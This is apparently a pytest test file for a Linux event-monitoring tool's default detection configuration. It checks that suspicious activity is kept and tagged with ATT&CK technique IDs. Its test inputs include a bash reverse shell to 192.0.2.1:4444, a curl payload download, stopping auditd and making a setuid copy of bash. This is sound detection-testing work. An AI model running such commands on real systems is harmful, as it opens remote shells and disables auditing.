"""The configuration that comes with pysmon: what it keeps, under which name, and what it drops."""

from __future__ import annotations

import re
from importlib.resources import files
from typing import Any

import pytest

from pysmon.config.model import Filter, Rule
from pysmon.config.read import read_default
from pysmon.lint.judge import judge
from pysmon.rules.ruleset import Ruleset
from pysmon.rules.verdict import Verdict
from pysmon.schema.catalogue import (
    CreateRemoteThread,
    DriverLoad,
    EbpfEvent,
    FileCreate,
    FileCreateTime,
    FileDelete,
    FileDeleteDetected,
    NetworkConnect,
    ProcessAccess,
    ProcessCreate,
    ProcessTampering,
    ProcessTerminate,
    RawAccessRead,
    WmiBinding,
    WmiConsumer,
    WmiFilter,
)
from pysmon.schema.event import EVENTS, Event

CONFIGURATION = read_default().configuration
RULES = Ruleset.compile(CONFIGURATION)
GUID = "{00000000-0000-0000-0000-000000000000}"
TIME = "2024-01-01 00:00:00.000"


def made(cls: type[Event], **fields: object) -> Event:
    """An event with what the test is about; all else has no value."""
    plain = {"guid": GUID, "time": TIME, "text": "-", "boolean": None}
    values: dict[str, Any] = {f.name: fields.get(f.name, plain.get(f.kind.name, 0)) for f in cls.type.fields}
    return cls(**values)


def decide(cls: type[Event], **fields: object) -> Verdict:
    return RULES.decide(made(cls, **fields))


def technique(verdict: Verdict) -> str:
    found = re.match(r"technique_id=([T0-9.]+),", verdict.rule_name)
    return found[1] if found else verdict.rule_name


@pytest.mark.parametrize(
    ("image", "command", "name"),
    [
        ("/usr/bin/vim", "vim a", "-"),
        ("/usr/bin/crontab", "crontab -e", "T1053.003"),
        ("/usr/bin/systemctl", "systemctl enable --now x", "T1543.002"),
        ("/usr/bin/systemctl", "systemctl stop auditd", "T1562.001"),
        ("/usr/bin/systemctl", "systemctl status", "-"),
        ("/usr/bin/bash", "bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'", "T1059.004"),
        ("/tmp/x", "./x", "T1204.002"),
        ("/memfd:x (deleted)", "x", "T1620"),
        ("/usr/bin/chmod", "chmod u+s /tmp/bash", "T1548.001"),
        ("/usr/bin/chmod", "chmod 644 a", "-"),
        ("/usr/bin/curl", "curl -O http://192.0.2.1/x", "T1105"),
    ],
)
def test_every_process_is_kept_and_named_after_what_it_does(image: str, command: str, name: str) -> None:
    verdict = decide(ProcessCreate, Image=image, CommandLine=command)
    assert (verdict.keep, technique(verdict)) == (True, name)


def test_a_shell_of_a_web_server_is_named_a_web_shell() -> None:
    verdict = decide(ProcessCreate, Image="/usr/bin/dash", ParentImage="/usr/sbin/nginx", CommandLine="sh -c id")
    assert technique(verdict) == "T1505.003"


def test_a_rule_that_matches_in_part_leaves_no_name() -> None:
    assert decide(ProcessCreate, Image="/usr/sbin/nginx", ParentImage="/usr/sbin/nginx").rule_name == "-"


@pytest.mark.parametrize(
    ("image", "keep"), [("/opt/google/chrome/chrome", False), ("/tmp/chrome", True), ("/home/a/chrome", True)]
)
def test_helpers_of_a_browser_are_dropped_but_not_what_only_looks_like_them(image: str, keep: bool) -> None:
    assert decide(ProcessCreate, Image=image, CommandLine="chrome --type=renderer").keep is keep


def test_every_end_of_a_process_is_kept() -> None:
    assert decide(ProcessTerminate, Image="/usr/bin/ls") == Verdict(True, "-")


@pytest.mark.parametrize(
    ("image", "source", "destination", "port", "keep"),
    [
        ("/usr/bin/psql", "192.0.2.2", "192.0.2.1", 5432, True),
        ("/usr/bin/curl", "127.0.0.1", "127.0.0.1", 8080, True),
        ("/tmp/x", "0:0:0:0:0:0:0:1", "0:0:0:0:0:0:0:1", 8080, True),
        ("/usr/bin/psql", "127.0.0.1", "127.0.0.1", 5432, False),
        ("/usr/bin/psql", "127.0.0.1", "127.0.0.53", 53, False),
        ("/usr/bin/psql", "0:0:0:0:0:0:0:1", "0:0:0:0:0:0:0:1", 5432, False),
        ("/usr/bin/psql", "2001:db8::2", "2001:db8::1", 5432, True),
        ("/usr/lib/systemd/systemd-timesyncd", "192.0.2.2", "192.0.2.1", 123, False),
        ("/tmp/systemd-timesyncd", "192.0.2.2", "192.0.2.1", 123, True),
    ],
)
def test_connections_are_kept_unless_they_stay_inside(
    image: str, source: str, destination: str, port: int, keep: bool
) -> None:
    verdict = decide(NetworkConnect, Image=image, SourceIp=source, DestinationIp=destination, DestinationPort=port)
    assert verdict.keep is keep


@pytest.mark.parametrize(
    ("path", "name"),
    [
        ("/etc/cron.d/x", "T1053.003"),
        ("/var/spool/cron/crontabs/root", "T1053.003"),
        ("/etc/systemd/system/x.timer", "T1053.006"),
        ("/etc/systemd/system/x.service", "T1543.002"),
        ("/home/a/.config/systemd/user/x.service", "T1543.002"),
        ("/home/a/.ssh/authorized_keys", "T1098.004"),
        ("/home/a/.bashrc", "T1546.004"),
        ("/etc/profile.d/x.sh", "T1546.004"),
        ("/etc/ld.so.preload", "T1574.006"),
        ("/etc/pam.d/sshd", "T1556.003"),
        ("/etc/sudoers.d/x", "T1548.003"),
        ("/etc/passwd", "T1098"),
        ("/etc/udev/rules.d/x.rules", "T1546.017"),
        ("/var/www/html/x.php", "T1505.003"),
        ("/lib/modules/6.1/x.ko", "T1547.006"),
        ("/usr/bin/x", "T1554"),
        ("/home/a/x.so", "T1574"),
        ("/tmp/x", "T1105"),
        ("/dev/shm/x", "T1105"),
    ],
)
def test_a_file_in_an_interesting_place_is_kept_and_named(path: str, name: str) -> None:
    verdict = decide(FileCreate, Image="/usr/bin/vim", TargetFilename=path)
    assert (verdict.keep, technique(verdict)) == (True, name)


@pytest.mark.parametrize(
    ("image", "path"),
    [
        ("/usr/bin/vim", "/home/a/letter.txt"),
        ("/usr/bin/vim", "/var/lib/x/y"),
        ("/usr/bin/x86_64-linux-gnu-gcc-12", "/tmp/ccA1b2C3.s"),
        ("/usr/bin/dpkg", "/usr/bin/x.dpkg-new"),
        ("/usr/lib/postgresql/15/bin/postgres", "/dev/shm/PostgreSQL.1234"),
    ],
)
def test_a_file_elsewhere_and_the_noise_are_dropped(image: str, path: str) -> None:
    assert not decide(FileCreate, Image=image, TargetFilename=path).keep


@pytest.mark.parametrize(
    ("image", "path", "name"),
    [
        ("/usr/bin/rm", "/home/a/.bash_history", "T1070.003"),
        ("/usr/bin/rm", "/var/log/auth.log", "T1070.002"),
        ("/usr/bin/rm", "/etc/cron.d/x", "T1070.009"),
        ("/usr/bin/rm", "/tmp/x", "T1070.004"),
    ],
)
def test_removed_traces_are_kept_and_named(image: str, path: str, name: str) -> None:
    verdict = decide(FileDeleteDetected, Image=image, TargetFilename=path)
    assert (verdict.keep, technique(verdict)) == (True, name)


def test_the_rotation_of_logs_is_dropped() -> None:
    assert not decide(FileDeleteDetected, Image="/usr/sbin/logrotate", TargetFilename="/var/log/syslog.4.gz").keep


@pytest.mark.parametrize(
    ("cls", "fields", "name"),
    [
        (FileCreateTime, {"Image": "/usr/bin/touch", "TargetFilename": "/tmp/x"}, "T1070.006"),
        (DriverLoad, {"ImageLoaded": "/tmp/x.ko"}, "T1547.006"),
        (CreateRemoteThread, {"SourceImage": "/usr/bin/gdb"}, "T1055"),
        (RawAccessRead, {"Image": "/usr/bin/dd", "Device": "/dev/sda"}, "T1006"),
        (ProcessAccess, {"SourceImage": "/tmp/x", "GrantedAccess": "0x1c3a"}, "T1055.008"),
        (ProcessAccess, {"SourceImage": "/tmp/x", "GrantedAccess": "0x1010"}, "T1003.007"),
        (ProcessAccess, {"SourceImage": "/tmp/x", "GrantedAccess": "0x1028"}, "T1055"),
        (ProcessTampering, {"Image": "/memfd:x (deleted)"}, "T1620"),
        (ProcessTampering, {"Image": "/usr/bin/x"}, "T1055"),
        (EbpfEvent, {"Image": "/tmp/x"}, "T1014"),
        (WmiFilter, {"EventNamespace": '"cron"'}, "T1053.003"),
        (WmiFilter, {"EventNamespace": '"at"'}, "T1053.002"),
        (WmiFilter, {"EventNamespace": '"udev"'}, "T1546.017"),
        (WmiFilter, {"EventNamespace": '"systemd"', "Query": '"OnCalendar=daily"'}, "T1053.006"),
        (WmiFilter, {"EventNamespace": '"systemd"', "Query": '"PathExists=/x"'}, "T1543.002"),
        (WmiConsumer, {"Type": "cron command"}, "T1053.003"),
        (WmiConsumer, {"Type": "systemd service"}, "T1543.002"),
        (WmiBinding, {"Filter": 'udev rule.Name="/etc/udev/rules.d/x.rules:1"'}, "T1546.017"),
        (WmiBinding, {"Filter": 'systemd timer.Name="x.timer"'}, "T1053.006"),
        (WmiBinding, {"Filter": 'systemd target.Name="multi-user.target"'}, "T1543.002"),
    ],
)
def test_what_few_do_is_kept_and_named(cls: type[Event], fields: dict[str, object], name: str) -> None:
    verdict = decide(cls, **fields)
    assert (verdict.keep, technique(verdict)) == (True, name)


@pytest.mark.parametrize(
    ("cls", "image"),
    [
        (FileCreateTime, "/usr/bin/dpkg"),
        (FileCreateTime, "/usr/bin/tar"),
        (RawAccessRead, "/usr/bin/udevadm"),
        (RawAccessRead, "/usr/lib/systemd/system-generators/systemd-gpt-auto-generator"),
        (EbpfEvent, "/usr/lib/systemd/systemd"),
    ],
)
def test_whose_work_it_is_makes_no_noise_but_who_only_has_the_name_does(cls: type[Event], image: str) -> None:
    assert not decide(cls, Image=image).keep
    assert decide(cls, Image=f"/home/joe{image}").keep


def test_a_removed_file_is_told_once() -> None:
    assert not RULES.wants(FileDelete.type.id)


def test_only_events_that_the_sensor_makes_are_asked_for() -> None:
    assert CONFIGURATION is not None
    live = {event.tag for event in EVENTS.values() if event.live}
    assert {event.tag for event in CONFIGURATION.filters} <= live


def test_its_own_linter_has_nothing_to_say() -> None:
    """Comments pass over paths of systems that have a /bin of their own, and a rule that names nothing on purpose."""
    found = judge(files("pysmon.config").joinpath("default.xml").read_bytes(), "default.xml", platform="linux")
    assert found.problems == ()


def test_every_name_is_a_technique() -> None:
    assert CONFIGURATION is not None
    filters = [each for event in CONFIGURATION.filters for entry in event.entries for each in leaves(entry)]
    names = {each.name for each in filters} - {"", "-"}
    assert len(names) > 40
    for name in names:
        assert re.fullmatch(r"technique_id=T\d{4}(\.\d{3})?,technique_name=[A-Z/][A-Za-z/ -]+", name)


def leaves(entry: Filter | Rule) -> tuple[Filter, ...]:
    return entry.filters if isinstance(entry, Rule) else (entry,)
